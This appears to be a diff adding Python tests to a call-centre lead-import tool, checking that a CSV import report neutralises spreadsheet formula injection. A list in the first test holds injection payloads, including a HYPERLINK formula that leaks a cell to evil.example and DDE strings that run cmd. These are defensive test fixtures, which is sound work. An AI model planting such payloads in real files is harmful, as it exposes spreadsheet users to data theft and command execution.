@@ -128,3 +128,49 @@ def test_normaliser_agrees_with_phonenumbers() -> None:
     assert n("+1 (212) 555-0100").tz == "America/New_York"  # type: ignore[union-attr]
     assert isinstance(n("12345"), str) and n("") == "empty"
     assert time_zone_key("8613812345678") == "Asia/Shanghai"
+
+
+def test_the_import_report_cannot_carry_a_formula(sqlite_engine: Engine, tmp_path: Path) -> None:
+    """Rejected cells go back to the user in a CSV that Excel opens: a cell starting with = + - @,
+    a tab or a carriage return would run as a formula there."""
+    import csv
+    import io
+
+    hostile = [
+        '=HYPERLINK("http://evil.example/?"&A1,"details")',
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ]
+    path = tmp_path / "list.csv"
+    with path.open("w", encoding="utf-8", newline="") as f:
+        writer = csv.writer(f)
+        writer.writerow(["phone", "name"])
+        writer.writerow(["13812345678", "ok"])
+        writer.writerow(["13812345678", "duplicate"])  # its detail starts with '+86...'
+        for cell in hostile:
+            writer.writerow([cell, "x"])
+    cid = _task(sqlite_engine)
+    import_list(sqlite_engine, campaign_id=cid, path=path, phone_column=None, region="CN")
+    with sqlite_engine.connect() as c:
+        report = report_csv(c, cid)
+    rows = list(csv.reader(io.StringIO(report.lstrip("\ufeff"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert len(rows) == 1 + 1 + len(hostile)
+    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert not dangerous, dangerous
+    # Neutralised, not lost: the cell as typed follows a quote.
+    assert "'" + hostile[0][:64] in cells
+
+
+def test_every_spreadsheet_cell_goes_through_one_helper() -> None:
+    from callcenter.leads import spreadsheet_cell
+
+    assert spreadsheet_cell("=1+1") == "'=1+1"
+    assert spreadsheet_cell("@A1") == "'@A1"
+    assert spreadsheet_cell("+8613800138000") == "'+8613800138000"
+    assert spreadsheet_cell("plain") == "plain"
+    assert spreadsheet_cell("") == ""
+    assert spreadsheet_cell(42) == 42 and spreadsheet_cell(None) is None
